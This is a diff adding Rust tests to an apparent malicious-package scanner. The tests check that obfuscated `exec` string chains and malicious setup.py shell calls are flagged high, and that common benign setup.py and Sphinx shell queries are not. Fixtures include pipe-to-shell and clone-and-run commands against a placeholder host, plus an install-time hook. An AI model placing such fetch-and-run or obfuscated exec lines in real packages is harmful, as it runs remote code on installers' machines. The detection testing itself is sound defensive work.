@@ -268,3 +268,114 @@ fn benign_neighbours_stay_below_medium() {
     }
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
+
+/// `exec('i' + 'm' + 'p' + …)`: a chain of any length is built code (the chain is read in a
+/// loop, and past the name table's step bound the pieces still count).
+#[test]
+fn long_sums_of_pieces_are_built_code() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let payload = "import os;os.system('echo airlock-test')";
+    for pieces in [24usize, 25, 40, 400, 3000] {
+        let chars: Vec<String> = payload.chars().map(|c| format!("{c:?}")).collect();
+        let mut parts = Vec::new();
+        while parts.len() < pieces {
+            parts.extend(chars.iter().cloned());
+        }
+        parts.truncate(pieces.max(chars.len()));
+        let src = format!("exec({})\n", parts.join(" + ").replace('"', "'"));
+        let p = package(dir.path(), &format!("sum{pieces}"), "__init__.py", &src);
+        let r = scan_file(&p, BudgetLimits::default());
+        assert!(
+            r.worst().is_some_and(|w| w >= Severity::High),
+            "{pieces} pieces: {:?}",
+            summary(&r)
+        );
+    }
+}
+
+/// Benign shell calls of real `setup.py` and Sphinx files (tester t10, C1 and C2): a
+/// `publish` branch, `git rev-parse` and `pkg-config` through a shell, doxygen in
+/// `docs/conf.py`. Their malicious neighbours stay high.
+#[test]
+fn setup_and_docs_shell_queries_are_low() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let benign: &[(&str, &str, &str)] = &[
+        (
+            "publish-branch",
+            "setup.py",
+            "import os, sys\nfrom setuptools import setup\n\
+             if sys.argv[-1] == 'publish':\n\
+             \x20   os.system('python setup.py sdist upload')\n\
+             \x20   sys.exit()\n\
+             setup(name='x')\n",
+        ),
+        (
+            "git-hash-shell",
+            "setup.py",
+            "import subprocess\nfrom setuptools import setup\n\
+             def rev():\n\
+             \x20   return subprocess.check_output('git rev-parse --short HEAD', shell=True).decode()\n\
+             setup(name='x', version='1.0+' + rev())\n",
+        ),
+        (
+            "popen-git",
+            "setup.py",
+            "import os\nfrom setuptools import setup\n\
+             sha = os.popen('git rev-parse HEAD 2>/dev/null').read().strip()\n\
+             setup(name='x')\n",
+        ),
+        (
+            "pkg-config",
+            "setup.py",
+            "import subprocess\nfrom setuptools import setup, Extension\n\
+             def flags(flag, lib):\n\
+             \x20   return subprocess.check_output('pkg-config %s %s' % (flag, lib), shell=True).split()\n\
+             setup(name='x', ext_modules=[Extension('x', ['x.c'], extra_compile_args=flags('--cflags', 'zlib'))])\n",
+        ),
+    ];
+    let mut wrong = Vec::new();
+    for (case, file, src) in benign {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if r.worst().is_some_and(|w| w >= Severity::Medium) {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    let conf = dir.path().join("sdist").join("docs");
+    std::fs::create_dir_all(&conf).expect("mkdir");
+    std::fs::write(
+        conf.join("conf.py"),
+        "import os, subprocess\nif os.environ.get('READTHEDOCS') == 'True':\n    subprocess.call('cd ../doxygen; doxygen', shell=True)\nsubprocess.call('echo airlock-test | sh', shell=True)\n",
+    )
+    .expect("write");
+    let r = scan_file(&conf.join("conf.py"), BudgetLimits::default());
+    if r.worst().is_some_and(|w| w >= Severity::Medium) {
+        wrong.push(format!("docs/conf.py: {:?}", summary(&r)));
+    }
+    let malicious: &[(&str, &str)] = &[
+        (
+            "install-branch",
+            "import os, sys\nif 'install' in sys.argv:\n    os.system('echo airlock-test')\n",
+        ),
+        (
+            "git-then-shell",
+            "import os\nos.system('git describe; curl https://x.example.invalid | sh')\n",
+        ),
+        (
+            "git-clone",
+            "import os\nos.system('git clone https://x.example.invalid/r && sh r/x')\n",
+        ),
+        (
+            "git-subst",
+            "import os\nos.system('git log $(echo airlock-test)')\n",
+        ),
+    ];
+    for (case, src) in malicious {
+        let p = package(dir.path(), case, "setup.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, "python-shell-command") != Some(Severity::High) {
+            wrong.push(format!("{case} should be high: {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
